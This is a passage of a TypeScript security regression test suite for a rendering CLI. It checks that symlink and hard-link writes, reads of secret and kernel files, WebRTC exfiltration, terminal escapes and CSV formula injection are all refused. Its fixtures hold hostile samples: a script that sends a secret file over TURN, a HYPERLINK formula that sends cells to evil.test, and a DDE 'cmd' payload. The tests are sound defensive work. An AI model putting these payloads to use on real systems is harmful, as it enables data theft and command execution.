  for (const args of [['render', 'p.html', '--eval', 'document.title', '--out', 'notes.txt'], ['pdf', 'esc.md', 'r36.pdf'], ['render', 'p.html', '--screenshot', 'r36.pdf'.replace('.pdf', '.png')], ['diagram', 'd.mmd', '--svg', 'f36.svg']]) {
    if (args.includes('r36.png')) symlinkSync(join(victim, 'shot.html'), join(dir, 'r36.png'));
    const r = await gstack(args, { cwd: dir });
    expectExit(r, 2);
    assert.match(r.stderr, /is a symbolic link, and the file written would be the one it names/, r.stderr);
  }
  assert.equal(readFileSync(join(victim, '.bashrc'), 'utf8'), 'echo original\n');
  for (const gone of [join(dir, 'index-b36.html'), join(victim, '.profile'), join(victim, 'shot.html')]) assert.ok(!existsSync(gone), `${gone} was written`);
  // Pass 44 (B44): a hard link at the output name (`ln ~/.bashrc shot.png`) is the same file under
  // another name: writing it changed the victim's contents. Refused like a symbolic link.
  writeFileSync(join(victim, 'rc-b44'), 'echo original\n');
  for (const [args, name] of [[['render', 'p.html', '--screenshot', 'h44.png'], 'h44.png'], [['pdf', 'esc.md', 'h44.pdf'], 'h44.pdf'], [['render', 'p.html', '--eval', '"hello"', '--out', 'h44.txt'], 'h44.txt']] as const) {
    linkSync(join(victim, 'rc-b44'), join(dir, name));
    const r = await gstack([...args], { cwd: dir });
    expectExit(r, 2);
    assert.match(r.stderr, /it is a hard link \(one file under 2 names\), and writing it would change the file under its other names too/, r.stderr);
    rmSync(join(dir, name));
  }
  assert.equal(readFileSync(join(victim, 'rc-b44'), 'utf8'), 'echo original\n');
  // A folder that exists already is the user's; a plain new one is made as before.
  expectExit(await gstack(['render', 'p.html', '--screenshot', 'shots/new/s.png'], { cwd: dir }), 0);
  assert.ok(existsSync(join(dir, 'shots', 'new', 's.png')));
  expectExit(await gstack(['pdf', 'esc.md', 'esc.html', '--to', 'html'], { cwd: dir }), 0);
  expectExit(await gstack(['render', 'p.html', '--eval', 'document.getElementById("p").textContent', '--out', 'ev.txt'], { cwd: dir }), 0);
  for (const f of ['esc.html', 'ev.txt']) {
    const text = readFileSync(join(dir, f), 'utf8');
    assert.ok(!/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f]/.test(text), `${f} holds a control character`);
  }
  assert.match(readFileSync(join(dir, 'ev.txt'), 'utf8'), /^Report \uFFFD+ done$/);
  // Pass 37 (B37): a control spelled as a numeric reference, which an HTML or XML reader of the
  // file decodes, was written as is by --eval --out.
  writeFileSync(join(dir, 'ref.html'), '<!doctype html><title>Invoice &amp;#x9b;2J&amp;#27;[1A&amp;#x1b;[2KPaid &amp;#155;0m</title>');
  for (const [expr, out] of [['document.title', 'ref.txt'], ['({ title: document.title })', 'ref.json'], ['"data:,A%26%23x9b%3B2J"', 'ref-data.txt']]) {
    expectExit(await gstack(['render', 'ref.html', '--eval', expr, '--out', out], { cwd: dir }), 0);
    const text = readFileSync(join(dir, out), 'utf8');
    assert.doesNotMatch(text, /&#x?0*(?:9b|27|1b|155);/i, `${out}: ${text}`);
    assert.match(text, /\uFFFD/, out);
  }
  // Nineteenth pass (B19): the JSON an --eval 'JSON.stringify(…)' wrote kept `\u001b` as six
  // characters, which `jq -r` turned back into an ESC; and the file kept bidi overrides.
  expectExit(await gstack(['render', 'p.html', '--eval', 'JSON.stringify({ label: "Q3\\u001b]0;pwned\\u0007\\u202eREVENUE DOWN" })', '--out', 'chart.json'], { cwd: dir }), 0);
  const chart = readFileSync(join(dir, 'chart.json'), 'utf8');
  assert.doesNotMatch(chart, /\\u001b|\\u0007|\u202e/i, chart);
  assert.match(chart, /REVENUE DOWN/);
});

// Fourteenth red-team pass: --header/--footer read any file by name (a page title passed there,
// `/proc/self/environ`, `.env`) into every page of the PDF, and pdf and diagram read /proc files.
test('a header or footer file under a hidden name, and any kernel file a render would read, are usage errors', async () => {
  const md = join(docs, 'hf.md');
  writeFileSync(md, '# Body\n\ntext\n');
  writeFileSync(join(docs, '.hf-env'), 'API_KEY=SECRET-HF-1\n');
  mkdirSync(join(docs, 'visible'), { recursive: true });
  symlinkSync(join(docs, '.hf-env'), join(docs, 'visible', 'header.html'));
  for (const args of [['pdf', md, join(docs, 'hf1.pdf'), '--footer', '.hf-env'], ['pdf', md, join(docs, 'hf2.pdf'), '--header', 'visible/header.html'], ['pdf', md, join(docs, 'hf3.pdf'), '--header', '/proc/self/environ'], ['render', md, '--pdf', join(docs, 'hf4.pdf'), '--footer', '/proc/version'], ['pdf', '/proc/version', join(docs, 'hf5.pdf')], ['diagram', '/proc/version']]) {
    const r = await gstack(args);
    expectExit(r, 2);
    assert.match(r.stderr, /hidden name|kernel file|outside this directory/, r.stderr);
    // A kernel file is not said to be a pipe that could wait forever.
    if (/kernel file/.test(r.stderr)) assert.doesNotMatch(r.stderr, /pipe, socket or device/, r.stderr);
    assert.doesNotMatch(r.stdout + r.stderr, /SECRET-HF-1|PATH=|Linux version/);
  }
  assert.ok(!existsSync(join(docs, 'hf1.pdf')) && !existsSync(join(docs, 'hf3.pdf')), 'nothing was rendered');
  // Sixteenth pass (B16): a page title of `../secret.txt` passed as `--header "$TITLE"` printed a
  // file outside the project on every page; a header file in this directory still reads.
  writeFileSync(join(work, 'outside-secret.txt'), 'SECRET-HF-2');
  writeFileSync(join(docs, 'hf-header.html'), '<div style="font-size:10px">HEADER-FROM-FILE</div>');
  for (const args of [['pdf', md, join(docs, 'hf6.pdf'), '--header', '../outside-secret.txt'], ['render', md, '--pdf', join(docs, 'hf7.pdf'), '--footer', join(work, 'outside-secret.txt')]]) {
    const r = await gstack(args);
    expectExit(r, 2);
    assert.match(r.stderr, /outside this directory/, r.stderr);
  }
  expectExit(await gstack(['pdf', md, join(docs, 'hf8.pdf'), '--header', 'hf-header.html']), 0);
  assert.match(execFileSync('pdftotext', [join(docs, 'hf8.pdf'), '-'], { encoding: 'utf8' }), /HEADER-FROM-FILE/);
});

// Fourteenth red-team pass: a rendered page read a file next to it and sent it as a TURN
// username over WebRTC, which no route sees, to an address of its choosing.
test('a rendered page reaches no address over WebRTC: no STUN or TURN packet, UDP or TCP, leaves the render', async () => {
  const dgram = await import('node:dgram');
  const net = await import('node:net');
  const hits: string[] = [];
  const udp = dgram.createSocket('udp4');
  udp.on('message', (m) => hits.push(`udp ${m.length} bytes`));
  await new Promise<void>((r) => udp.bind(0, '127.0.0.1', r));
  const tcp = net.createServer((s) => s.on('data', (d) => hits.push(`tcp ${d.length} bytes`)));
  await new Promise<void>((r) => tcp.listen(0, '127.0.0.1', r));
  const udpPort = udp.address().port;
  const tcpPort = (tcp.address() as import('node:net').AddressInfo).port;
  try {
    writeFileSync(join(docs, 'rtc-secret.txt'), 'SECRET-RTC-1\n');
    writeFileSync(join(docs, 'rtc.html'), `<!doctype html><title>rtc</title><h1>x</h1><script>
(async () => {
  const sec = (await (await fetch('rtc-secret.txt')).text()).trim();
  for (const url of ['turn:127.0.0.1:${udpPort}?transport=udp', 'turn:127.0.0.1:${tcpPort}?transport=tcp', 'stun:127.0.0.1:${udpPort}']) {
    const pc = new RTCPeerConnection({ iceServers: [{ urls: url, username: sec, credential: 'c' }] });
    pc.createDataChannel('x');
    await pc.setLocalDescription(await pc.createOffer());
  }
  setTimeout(() => { window.done = true; }, 2500);
})();
</script>`);
    const r = await gstack(['render', 'rtc.html', '--wait-expr', 'window.done === true', '--pdf', join(docs, 'rtc.pdf')]);
    expectExit(r, 0);
    await new Promise((res) => setTimeout(res, 1000));
    assert.deepEqual(hits, [], 'WebRTC reached a listener');
  } finally {
    udp.close();
    tcp.close();
  }
});

// A page chooses what its data says, and `--eval … --out data.csv` puts it where a spreadsheet
// opens it: `=HYPERLINK("http://…/?"&A2, "Open")` would send the sheet's other cells away when
// clicked, `=cmd|…` ran a program in older Excel (DDE).
test('an --eval value a page chose, written to a .csv, holds no cell a spreadsheet would run as a formula', async () => {
  writeFileSync(join(docs, 'sheet.html'), '<title>x</title><script>window.sheet = \'=HYPERLINK("http://evil.test/?"&A2,"Open"),-12.5\\n@SUM(A1:A9),"+cmd|\\\' /C calc\\\'!A0"\';</script><p>sheet</p>');
  const r = await gstack(['render', 'sheet.html', '--eval', 'window.sheet', '--out', 'sheet.csv']);
  expectExit(r, 0);
  const csv = readFileSync(join(docs, 'sheet.csv'), 'utf8');
  assert.equal(csv, '\'=HYPERLINK("http://evil.test/?"&A2,"Open"),-12.5\n\'@SUM(A1:A9),"\'+cmd|\' /C calc\'!A0"');
});
